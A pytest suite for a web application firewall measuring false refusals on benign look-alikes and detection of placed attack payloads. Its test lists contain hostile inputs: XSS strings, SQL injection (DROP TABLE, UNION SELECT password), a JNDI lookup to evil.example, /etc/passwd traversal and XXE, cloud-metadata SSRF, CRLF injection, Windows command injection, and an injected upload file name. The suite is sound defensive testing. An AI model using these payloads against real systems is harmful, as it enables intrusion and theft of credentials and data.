"""Precision (issue 16): benign look-alikes harvested from this machine and CRS attack
payloads, both placed in every part of a request, through the default policy.

The figures are floors and ceilings at what the rules reach now (commit ``precision``); the
issue's targets are stricter where a comment says so. The corpora are the committed sample
(``wardgate/filters/waf/data/lookalikes.jsonl``) and the shared CRS corpus, so the numbers
are the same on every machine. Single-request tests pin the classes: corroboration (a weak
signal alone passes, with a second signal it blocks), the strong forms that still block
alone, XML parsed as XML, parser errors as refusals."""

from __future__ import annotations

import asyncio

import pytest

from tests.filters.waf.conftest import corpus_path, run, waf
from wardgate.filters.waf import lookalikes, placements, precision
from wardgate.filters.waf.corpus import Record


@pytest.fixture(scope="module")
def benign(default_waf) -> precision.Grid:
    return asyncio.run(precision.measure(default_waf, precision.benign_records()))


@pytest.fixture(scope="module")
def attacks(default_waf) -> precision.Grid:
    return asyncio.run(precision.measure(default_waf, precision.attack_records(corpus_path())))


def test_the_committed_sample_has_every_class():
    samples = lookalikes.load(precision.DEFAULT_LOOKALIKES)
    counts = {cls: sum(s.cls == cls for s in samples) for cls in lookalikes.CLASSES}
    assert all(count >= 100 for count in counts.values()), counts


def test_benign_look_alikes_are_rarely_refused(benign):
    print(benign.table("benign"))
    assert benign.overall.total > 11000
    assert benign.overall.rate <= 0.009  # 0.6% when tuned (the target is 2%; 1.2-1.3%
    # on two fresh harvests with other seeds, 4.0-4.7% for the rules before)


@pytest.mark.parametrize(
    ("cls", "ceiling"),
    [
        ("code", 0.005),  # 0.0% when tuned (7.3% before code was told from SQL and shell)
        ("xml", 0.016),  # 1.1%: two HTML/XSL documents in a form field
        ("template", 0.025),  # 1.7%: ${sys:...} lookups, JS template strings with markup
        ("url", 0.005),  # 0.2% when tuned
        ("prose", 0.02),  # 1.5%: docstrings calling exp(x), exec(compile(...))
        ("shell", 0.01),  # 0.8%: /proc/sys/kernel in a man page
        ("path", 0.005),  # 0.0%: Windows paths as upload names pass
        ("name", 0.005),
        ("json", 0.005),
        ("yaml", 0.012),  # 0.8%: a YAML example about quoting (' # not a comment')
    ],
)
def test_no_benign_class_is_refused_much(benign, cls, ceiling):
    assert benign.by_class[cls].rate <= ceiling


def test_xml_documents_as_xml_bodies_pass(benign):
    assert benign.by_place["xml"].rate <= 0.011  # 0.7% when tuned


@pytest.mark.parametrize("where", ["cookie", "filename", "path"])
def test_cookies_file_names_and_paths_are_no_worse_than_other_places(benign, where):
    """Multi-line code, Windows paths and pasted documents used to be refused here for
    their shape (a line end, a backslash, shell characters) beside a weak signal."""
    assert benign.by_place[where].rate <= 0.011, where  # 0.5-0.8% when tuned


def test_placed_attacks_are_detected_in_every_placement(attacks):
    print(attacks.table("attacks"))
    assert attacks.overall.rate >= 0.922  # 92.4% when tuned; the target is 92%
    for where, tally in attacks.by_place.items():
        assert tally.rate >= 0.905, where  # lowest: header 91.1% when tuned (target 85%)


def test_no_input_gets_a_5xx(benign, attacks):
    assert benign.errors == 0
    assert attacks.errors == 0


def test_placements_encode_like_clients():
    record = placements.place('a "b"\nc', "filename", cls="name", expect="allow", ident="x")
    assert record is not None
    assert b'filename="a %22b%22%0Ac"' in record.body
    query = placements.place("a b&c", "query", cls="name", expect="allow", ident="x")
    assert isinstance(query, Record)
    assert query.target == "/api/search?q=a+b%26c"


# --- corroboration ----------------------------------------------------------------------

WEAK_ALONE = [
    ("code (libinjection)", "/?q=if (a %26%26 b) { return x || y; }"),
    ("URL with an IP host", "/?next=http://203.0.113.7:8080/docs/index.html"),
    ("shell-style template", "/?greeting=Hello ${USER}, welcome"),
    ("one markup tag", "/?note=see <img src=diagram.png> below"),
    ("XHTML namespace", '/?doc=<html xmlns="http://www.w3.org/1999/xhtml"><p>x</p></html>'),
    ("Windows user path", "/?file=C:\\Users\\dev\\report.txt"),
]


@pytest.mark.parametrize(("what", "target"), WEAK_ALONE, ids=[w[0] for w in WEAK_ALONE])
def test_a_weak_signal_alone_passes_at_pl1(default_waf, what, target):
    reply, _ = run(default_waf, target)
    assert reply is None, what


def test_a_weak_signal_alone_is_still_reported(default_waf):
    reply, request = run(default_waf, "/?next=http://203.0.113.7:8080/docs/index.html")
    assert reply is None
    assert [v.rule_id for v in request.findings] == ["waf.931100"]
    assert request.metadata["waf"]["uncorroborated"][0]["ruleId"] == "waf.931100"


def test_weak_signals_of_two_families_block(default_waf):
    reply, _ = run(default_waf, "/?a=http://10.1.2.3/x&b=C:/windows/win.ini%0b")
    assert reply is not None


def test_weak_signals_block_alone_from_paranoia_level_2():
    reply, _ = run(waf(paranoiaLevel=2), "/?next=http://203.0.113.7:8080/docs/index.html")
    assert reply is not None


STRONG_ALONE = [
    ("script tag", "/?q=<script>alert(1)</script>"),
    ("event handler", "/?q=<img src=x onerror=alert(1)>"),
    ("stacked query", "/?id=1; DROP TABLE users"),
    ("jndi lookup", "/?x=${jndi:ldap://evil.example/a}"),
    ("/etc/passwd", "/?f=../../etc/passwd"),
    ("metadata IP", "/?url=http://169.254.169.254/latest/meta-data/"),
    ("script from an IP host", "/?src=http://66.240.183.75/crash.php"),
    ("meta refresh", '/?q=<meta http-equiv="refresh" content="0;url=http://e.example">'),
    ("NUL in a name", "/?test%00=1"),
    ("CR/LF in the path", "/foo%0d%0aSet-Cookie:%20a=b"),
    ("obfuscated tag", "/?q=<s c r i p t>"),
    ("windows command", "/?q=x | type %25SystemRoot%25\\win.ini"),
]


@pytest.mark.parametrize(("what", "target"), STRONG_ALONE, ids=[s[0] for s in STRONG_ALONE])
def test_strong_forms_still_block_alone(default_waf, what, target):
    reply, _ = run(default_waf, target)
    assert reply is not None, what
    assert reply.status == 403


# --- XML and JSON bodies ----------------------------------------------------------------

XHTML = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml">'
    '<head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"/>'
    '<link rel="stylesheet" href="style.css"/><style>p { color: red }</style></head>'
    '<body><form action="/search"><input name="q"/></form><img src="a.png"/></body></html>'
)


def test_an_xml_document_is_not_refused_for_its_tags(default_waf):
    reply, _ = run(default_waf, "/x", method="POST", body=XHTML, content_type="application/xml")
    assert reply is None


def test_an_attack_in_an_xml_text_node_or_attribute_is_found(default_waf):
    for body in (
        "<a><b>1' UNION SELECT password FROM users--</b></a>",
        '<a href="javascript:alert(1)">x</a>',
        "<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>",
    ):
        reply, _ = run(default_waf, "/x", method="POST", body=body, content_type="text/xml")
        assert reply is not None, body


def test_xxe_is_refused(default_waf):
    body = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    reply, _ = run(default_waf, "/x", method="POST", body=body, content_type="application/xml")
    assert reply is not None


@pytest.mark.parametrize("encoding", ["UTF-7", "x-unknown-charset", "Shift_JIS"])
def test_an_xml_encoding_the_parser_cannot_read_is_a_400_not_a_500(default_waf, encoding):
    body = f'<?xml version="1.0" encoding="{encoding}"?><a>+ADw-script+AD4-</a>'
    reply, _ = run(default_waf, "/x", method="POST", body=body, content_type="application/xml")
    assert reply is not None
    assert reply.status == 400
    assert reply.reason == "xml_unparseable"


def test_a_semicolon_in_an_upload_file_name_stays_in_the_name(default_waf):
    boundary = "b0undary"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="f"; filename="notes; draft.txt"'
        f"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--{boundary}--\r\n"
    )
    reply, _ = run(
        default_waf,
        "/up",
        method="POST",
        body=body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    assert reply is None
    attack = body.replace("notes; draft.txt", "x;DROP/**/TABLE users;")
    reply, _ = run(
        default_waf,
        "/up",
        method="POST",
        body=attack,
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    assert reply is not None


# --- tuning in one step -----------------------------------------------------------------


def test_a_refusals_rule_id_is_pasteable_into_an_exception():
    target = "/search?q=1' OR '1'='1"
    reply, _ = run(waf(), target)
    assert reply is not None
    rule_ids = sorted({v.rule_id for v in reply.violations})
    assert all(r.startswith("waf.") for r in rule_ids)
    tuned = waf(
        exceptions=[{"ruleIds": rule_ids, "locations": ["query:q"], "reason": "search box"}]
    )
    reply, request = run(tuned, target)
    assert reply is None
    suppressed = request.metadata["waf"]["suppressed"]
    assert {s["ruleId"] for s in suppressed} == set(rule_ids)
    assert {s["by"] for s in suppressed} == {"exceptions[0]"}
    assert {s["location"] for s in suppressed} == {"query:q"}


def test_a_malformed_prefixed_rule_id_is_still_rejected():
    with pytest.raises(ValueError, match="ruleIds"):
        waf(exceptions=[{"ruleIds": ["waf.94210"], "locations": ["query:q"], "reason": "x"}])


def test_explain_shows_which_exception_suppressed_which_match():
    from wardgate.config import load_policy_text
    from wardgate.runtime import compile_policy
    from wardgate.runtime.explain import explain, parse_request_description

    policy = compile_policy(
        load_policy_text(
            "waf:\n  exceptions:\n"
            "    - ruleIds: [waf.942100]\n      locations: ['query:q']\n"
            "      reason: code search\n"
        )
    )
    request = parse_request_description(
        b"method: GET\npath: /search?q=if (a %26%26 b) { return x || y; }&next=http://203.0.113.7/a\n"
    )
    result = asyncio.run(explain(policy, request))
    assert result["decision"] == "allow"
    assert {"ruleId": "waf.942100", "location": "query:q", "by": "exceptions[0]"} in result[
        "suppressed"
    ]
    assert [n["ruleId"] for n in result["uncorroborated"]] == ["waf.931100"]
